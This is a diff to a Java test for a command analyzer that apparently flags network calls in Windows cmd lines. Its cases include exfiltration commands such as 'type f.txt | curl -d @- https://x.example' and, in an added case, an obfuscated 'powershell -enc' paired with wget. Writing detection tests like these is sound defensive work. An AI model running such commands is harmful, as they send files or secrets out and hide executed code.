@@ -172,7 +172,9 @@ class CommandAnalyzerCasesTest {
                 // Windows cmd
                 c("curl(H) https://x.example/ [arg:2]", "cmd.exe", "/c", "curl -d secret https://x.example & echo done"),
                 c("curl(H) https://x.example/ [arg:4]", "cmd", "/C", "curl", "-d", "v", "https://x.example"),
-                c("curl(H) https://x.example/ [stdin!]", "cmd", "/c", "type f.txt | curl -d @- https://x.example")
+                c("curl(H) https://x.example/ [stdin!]", "cmd", "/c", "type f.txt | curl -d @- https://x.example"),
+                c("curl(H) https://x.example/ []", "cmd", "/c", "start \"\" /b curl.exe https://x.example"),
+                c("wget(H) https://x.example/ [] #OBF", "cmd", "/c", "powershell -enc AAAA & wget https://x.example")
         );
     }
 
